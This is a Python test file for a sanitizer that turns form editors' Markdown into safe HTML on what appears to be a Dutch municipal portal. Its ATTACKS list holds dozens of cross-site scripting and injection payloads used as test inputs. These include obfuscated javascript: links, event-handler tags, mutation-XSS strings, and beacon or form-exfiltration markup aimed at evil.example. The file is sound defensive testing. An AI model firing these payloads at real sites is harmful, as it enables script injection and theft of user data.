"""Texts of form editors become safe HTML, whatever stands in them."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.definition.richtext import ATTRIBUTES, LONGEST, SCHEMES, TAGS, html, links


class _Seen(HTMLParser):
    """Collects what a browser would see as markup."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_comment(self, data):
        raise AssertionError(f"a comment got through: {data}")


def is_harmless(text: str) -> bool:
    """Say whether all markup is on the list, and every link leads where links may lead."""
    for tag, attributes in _Seen(text).tags:
        if tag not in TAGS or not set(attributes) <= ATTRIBUTES.get(tag, set()):
            return False
        goal = attributes.get("href")
        if goal is not None and not goal.startswith(("/", *(f"{scheme}:" for scheme in SCHEMES))):
            return False
        if goal is not None and goal.startswith("//"):
            return False
    return True


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](java\u200bscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](/\\\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http://evil.example)",
    "[x](ftp://evil.example)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example '\"onmouseover=\"alert(1)')",
    '[x](<https://a.example" onmouseover="alert(1)>)',
    '[x](https://a.example/"onmouseover=alert(1)//)',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x][y]\n\n[y]: https://a.example 'a\" onclick=\"alert(1)'",
    "<javascript:alert(1)>",
    '<https://a.example/"onclick=alert(1)>',
    "<data:text/html,x>",
    "![x](https://evil.example/beacon.png)",
    "![x](javascript:alert(1))",
    "[![x](https://evil.example/b.png)](https://a.example)",
    "<iframe src=//evil.example></iframe>",
    "<form action=//evil.example><input name=bsn></form>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><script>alert(1)</script></textarea>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<a\nhref=javascript:alert(1)>x",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "| a |\n|:-:|\n| b |",
    "# <img src=x onerror=alert(1)>",
    "**<b onmouseover=alert(1)>x</b>**",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<a href="https://a.example" target=_self onclick=alert(1)>x</a>',
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "[x](https://[bad)",
    "[x](https://&amp;#91;bad)",
    "[x](https://name:word@evil.example)",
    '[x](tel:112"onclick=alert(1))',
    "{{ 7*7 }} ${7*7} {% x %} #{7} <%= 7 %>",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("new_tab", [None, "opent in een nieuw tabblad"])
def test_no_attack_becomes_markup(attack, new_tab):
    assert is_harmless(html(attack, new_tab=new_tab)), html(attack, new_tab=new_tab)


@given(st.text(alphabet="<>\"'=/:&#;()[]!`*_-|\\\n ajscriptonhef", max_size=120))
def test_no_combination_of_signs_becomes_markup(text):
    assert is_harmless(html(text))


def test_what_editors_write_looks_as_they_mean_it():
    text = "Houd **bij de hand**:\n\n- een *tekening*\n- een plan\n\n1. Eerst\n2. Dan"
    assert html(text).replace("\n", "") == (
        "<p>Houd <strong>bij de hand</strong>:</p><ul><li>een <em>tekening</em></li>"
        "<li>een plan</li></ul><ol><li>Eerst</li><li>Dan</li></ol>"
    )


def test_a_table_has_heads_that_say_so():
    shown = html("| Soort | Prijs |\n|:--|--:|\n| Feest | 0 |")
    assert shown.count('<th scope="col">') == 2
    assert "style" not in shown


def test_html_in_the_text_is_text():
    assert html("<b>Let op</b>") == "<p>&lt;b&gt;Let op&lt;/b&gt;</p>\n"


def test_a_template_in_the_text_is_text():
    assert "{{ 7*7 }}" in html("{{ 7*7 }}")


@pytest.mark.parametrize(("top", "levels"), [(2, [2, 3, 4]), (4, [4, 5, 6]), (6, [6, 6, 6])])
def test_headings_stay_below_those_of_the_page(top, levels):
    shown = html("# Een\n\n## Twee\n\n### Drie", top=top)
    assert [int(level) for level in re.findall(r"<h(\d)>", shown)] == levels


@pytest.mark.parametrize("goal", ["tel:09008844", "mailto:gemeente@elzendam.example"])
def test_a_number_to_call_and_a_mail_to_write_open_no_tab(goal):
    shown = html(f"Bel [ons]({goal}) of lees [dit](/contact).", new_tab="opent in een tabblad")
    assert f'<a href="{goal}">ons</a>' in shown
    assert shown.count("(opent in een tabblad)") == 1


def test_a_link_inside_a_form_opens_in_a_new_tab_and_says_so():
    shown = html("[de regels](https://www.example.nl)", new_tab="opent in een nieuw tabblad")
    assert shown == (
        '<p><a href="https://www.example.nl" target="_blank" rel="noopener noreferrer">'
        "de regels (opent in een nieuw tabblad)</a></p>\n"
    )


def test_a_link_elsewhere_is_an_ordinary_link():
    assert html("[de regels](/hulp)") == '<p><a href="/hulp">de regels</a></p>\n'


def test_a_link_that_leads_nowhere_safe_keeps_its_words():
    assert html("zie [de regels](http://a.example)") == "<p>zie de regels</p>\n"
    assert html("zie [de regels](https://[bad)") == "<p>zie de regels</p>\n"


def test_a_text_that_is_too_long_is_none_of_ours():
    with pytest.raises(ValueError, match="characters"):
        html("x" * (LONGEST + 1))


def test_deep_nesting_costs_little():
    assert is_harmless(html(">" * 10_000))
    assert is_harmless(html("[" * 10_000 + "x" + "](/a)" * 100))


def test_links_are_found_with_their_words_also_the_bad_ones():
    text = "[**klik** hier](javascript:x) en [Contact](/contact)"
    assert list(links(text)) == [("klik hier", "javascript:x"), ("Contact", "/contact")]


@pytest.mark.parametrize(
    "markup",
    [
        "<script>x</script>",
        "<p onclick=x>",
        "<a href='javascript:x'>",
        "<a href='//evil.example'>",
        "<a href='http://a.example'>",
    ],
)
def test_the_test_itself_sees_what_is_not_harmless(markup):
    assert not is_harmless(markup)


def test_the_highest_heading_is_the_top_whatever_it_was_written_with():
    assert html("## A\n\n### B", top=3).split() == ["<h3>A</h3>", "<h4>B</h4>"]
    assert html("# A\n\n## B", top=3).split() == ["<h3>A</h3>", "<h4>B</h4>"]
